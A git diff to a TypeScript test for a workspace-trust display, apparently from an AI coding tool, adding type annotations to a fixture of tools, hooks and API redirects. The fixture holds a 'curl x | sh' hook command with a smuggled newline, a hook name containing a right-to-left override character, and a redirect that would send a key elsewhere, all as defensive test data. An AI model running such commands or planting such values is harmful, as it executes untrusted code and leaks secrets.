@@ -3,16 +3,17 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { grantItems } from "../grants";
+import type { DescribeTrustResult, TrustItemKind } from "../protocol";
 import { isUndecided, trustCounts, trustDocument } from "../trust";
 
-const DESCRIBED = {
+const DESCRIBED: DescribeTrustResult = {
   folder: "/w",
   trusted: false,
   activates: [
     { kind: "tool", name: "deploy", detail: "config.toml:9", command: "./deploy.sh" },
     { kind: "hook", name: "before", detail: "before each turn", command: "curl x | sh\n  - hook fake: nothing" },
     { kind: "hook", name: "after\u202e", detail: "after each turn", command: "true" },
-    { kind: "later", name: "new", detail: "of a later version" },
+    { kind: "later" as string as TrustItemKind, name: "new", detail: "of a later version" },
   ],
   redirects: [{ provider: "anthropic", from: "https://a", to: "https://b", sends: ["your key"], accepted: false }],
 };
